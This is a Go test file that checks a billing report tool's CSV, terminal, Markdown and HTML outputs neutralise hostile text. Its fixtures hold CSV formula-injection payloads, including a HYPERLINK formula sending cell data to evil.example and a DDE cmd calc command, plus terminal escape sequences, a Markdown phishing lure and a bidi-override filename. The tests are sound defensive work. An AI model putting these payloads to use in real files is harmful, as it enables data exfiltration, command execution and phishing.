package reports

import (
	"encoding/csv"
	"github.com/billsnap/billsnap/ledger"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/billsnap/billsnap/findings"
	"github.com/billsnap/billsnap/internal/csvsafe"
)

// formulas are values a hostile service or insider puts where text goes.
var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, `=cmd|' /C calc'!A0`, "@SUM(A1:A9)", "+SUM(1)", "-2+3", "-", "\t=1", "\r=1"}

// hostile is the fixture with a formula in every text cell a finding has.
func hostile(t *testing.T) *Input {
	in := fixture(t)
	for i := range in.Report.Findings {
		f := &in.Report.Findings[i]
		v := formulas[i%len(formulas)]
		f.Rule, f.Entity, f.EntityID, f.Currency, f.Detail, f.Status, f.FirstSeen, f.Live = v, v, v, v, v, v, v, v
		f.Waiver = &findings.Waiver{Rule: v, EntityID: v, Reason: v, Owner: formulas[(i+1)%len(formulas)], ID: v, By: v}
	}
	in.Report.Snapshot.ID = "=1+1"
	return in
}

// TestFindingsCSVHasNoLiveFormula writes findings.csv from findings whose
// every text cell looks like a formula: no cell begins with = @ TAB CR, a
// cell beginning with + or - is a number in the amount column, and each
// neutralised cell is its value with a leading '.
func TestFindingsCSVHasNoLiveFormula(t *testing.T) {
	in := hostile(t)
	dir := t.TempDir()
	if _, err := Write(dir, in, []string{"csv"}); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, "findings.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(in.Report.Findings)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(in.Report.Findings)+1)
	}
	neutralised := 0
	for r, row := range rows[1:] {
		for c, cell := range row {
			if csvsafe.Live(cell) || (rows[0][c] != "amount" && strings.HasPrefix(cell, "-")) {
				t.Errorf("row %d column %s: live cell %q", r+2, rows[0][c], cell)
			}
			if strings.HasPrefix(cell, "'") {
				neutralised++
			}
		}
	}
	if neutralised < len(in.Report.Findings)*10 {
		t.Errorf("only %d cells neutralised", neutralised)
	}
	if got := rows[1][6]; got != "'"+formulas[0] {
		t.Errorf("detail = %q, want the value with a leading '", got)
	}
	if got := rows[3][4]; got != "-4.50" {
		t.Errorf("a negative amount became %q, want -4.50", got)
	}
}

// TestTextEscapesControlCharacters gives the terminal summary a waiver,
// a material line and a field name holding terminal controls: none is
// written raw.
func TestTextEscapesControlCharacters(t *testing.T) {
	r := fixture(t).Report
	const esc = "\x1b]0;owned\x07\x1b[2J\u009b31m"
	r.ExpiredWaivers = []findings.Waiver{{Rule: "price_mismatch", EntityID: esc, Owner: esc, Expires: r.Findings[3].Waiver.Expires}}
	r.Material = append(r.Material, esc)
	r.Unjudged[0].Field = esc
	var b strings.Builder
	if err := Text(&b, r); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "\x1b\x07\u009b") {
		t.Errorf("a control character is written raw:\n%q", b.String())
	}
	if n := strings.Count(b.String(), `\x1b]0;owned\x07\x1b[2J\u009b31m`); n != 4 {
		t.Errorf("the escaped text appears %d times, want 4:\n%s", n, b.String())
	}
}

// TestMarkdownEscapesControlCharacters gives the Markdown summary (stdout
// of report and run, and summary.md) a field name, a problem, a waiver's
// note and a material line holding terminal controls: none is written raw.
func TestMarkdownEscapesControlCharacters(t *testing.T) {
	in := fixture(t)
	const esc = "\x1b]0;owned\x07\x1b[2J\u009b31m\r"
	in.Report.Material = append(in.Report.Material, esc)
	in.Report.Unjudged[0].Field = esc
	in.Fields[0].Field = esc
	in.Tables[0].Complete, in.Tables[0].Problem = false, esc
	var b strings.Builder
	if err := Markdown(&b, in, nil); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "\x1b\x07\u009b\r") {
		t.Errorf("a control character is written raw:\n%q", b.String())
	}
	// Markdown's own characters are escaped too (mdText), and a line break is a space.
	if n := strings.Count(b.String(), `\x1b\]0;owned\x07\x1b\[2J\u009b31m `); n < 3 {
		t.Errorf("the escaped text appears %d times, want 3 or more:\n%s", n, b.String())
	}
}

// TestMarkdownEscapesMarkdown gives the Markdown summary (what cron mails)
// a drift's problem and a sign-off's comment holding a
// heading, a link, an image, a table cell and HTML: each reads as text,
// every table row keeps its cells, no line of the data starts a heading,
// and a name with an underscore inside a word stays as it is.
func TestMarkdownEscapesMarkdown(t *testing.T) {
	in := fixture(t)
	const evil = "x\n# Pay now\n[click](https://evil.example) ![i](https://evil.example/i.png) | cell <b>bold</b> `code`"
	in.Tables[0].Complete, in.Tables[0].Problem = false, evil
	in.SignOffs = []ledger.Signed{{SignOff: ledger.SignOff{Name: "dana", Role: "controller", Comment: evil}}}
	var b strings.Builder
	if err := Markdown(&b, in, nil); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, raw := range []string{"\n# Pay now", "[click](", "![i](", "<b>", " | cell", "`code`"} {
		if strings.Contains(out, raw) {
			t.Errorf("the summary holds %q raw:\n%s", raw, out)
		}
	}
	if n := strings.Count(out, `\# Pay now \[click\](https://evil.example) \!\[i\](https://evil.example/i.png) \| cell \<b\>bold\</b\> \`+"`code\\`"); n != 2 {
		t.Errorf("the escaped text appears %d times, want 2:\n%s", n, out)
	}
	for _, l := range strings.Split(out, "\n") {
		cells := strings.Count(strings.ReplaceAll(l, `\|`, ""), "|")
		if strings.Contains(l, "evil") && strings.HasPrefix(l, "| customers |") && cells != 6 || strings.HasPrefix(l, "| customers.x") && cells != 7 {
			t.Errorf("a table row with the data has other cells (%d bars): %q", cells, l)
		}
	}
	if !strings.Contains(out, "paid_without_payment") {
		t.Error("a rule's name lost its underscores to escapes")
	}
}

// TestHTMLNeutralisesControlCharacters gives report.html a waiver whose
// reason, owner and author hold ESC, NUL, an OSC-8 link, a C1 control, DEL
// and a bidi override, and a finding's detail and a field name the same:
// html/template escapes <, > and &, and none of these is written raw
// either; each reads as its escape (\x1b, \u202e).
func TestHTMLNeutralisesControlCharacters(t *testing.T) {
	in := fixture(t)
	const ctl = "ok\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\x00\u0085\x7f\u202etxt.exe\u2066"
	f := &in.Report.Findings[3]
	f.Waiver = &findings.Waiver{Rule: f.Rule, EntityID: f.EntityID, Reason: "reason " + ctl, Owner: "owner " + ctl, By: "by " + ctl,
		Expires: f.Waiver.Expires}
	f.Detail = "detail " + ctl
	in.Fields[0].Field = "field" + ctl
	var b strings.Builder
	if err := HTML(&b, in); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, c := range []string{"\x1b", "\x00", "\u0085", "\x7f", "\u202e", "\u2066", "\r", "\t"} {
		if strings.Contains(out, c) {
			t.Errorf("report.html holds %q raw", c)
		}
	}
	for _, who := range []string{"reason ", "owner ", "by ", "detail "} {
		// html/template writes NUL as U+FFFD itself.
		if want := who + `ok\x1b]8;;https://evil.example\x1b\click\x1b]8;;\x1b\` + "\ufffd" + `\u0085\x7f\u202etxt.exe\u2066`; !strings.Contains(out, want) {
			t.Errorf("report.html does not show %q escaped", who)
		}
	}
}
